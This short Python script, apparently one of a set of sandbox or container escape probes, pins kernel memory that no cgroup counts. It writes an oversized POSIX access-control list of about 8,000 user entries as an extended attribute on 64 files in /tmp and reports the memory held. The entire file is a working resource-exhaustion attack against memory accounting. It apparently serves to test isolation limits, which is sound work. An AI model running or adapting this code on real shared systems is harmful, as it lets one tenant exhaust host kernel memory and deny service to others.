"""Keeps memory of the kernel's, which no cgroup counts, as long access lists of small files."""

import os
import struct

from attack import attempt

USER_OBJECT, USER, GROUP_OBJECT, MASK, OTHER = 0x01, 0x02, 0x04, 0x10, 0x20
USERS = 8000
NOBODY = 0xFFFFFFFF


def entry(tag: int, who: int) -> bytes:
    return struct.pack("<HHI", tag, 6, who)


def keep() -> str:
    users = b"".join(entry(USER, 1 + number) for number in range(USERS))
    ends = entry(GROUP_OBJECT, NOBODY) + entry(MASK, NOBODY) + entry(OTHER, NOBODY)
    long = struct.pack("<I", 2) + entry(USER_OBJECT, NOBODY) + users + ends
    for number in range(64):
        path = f"/tmp/{number}"
        with open(path, "xb"):
            os.setxattr(path, "system.posix_acl_access", long)
    return f"{64 * len(long) >> 20} MiB kept"


attempt(keep)
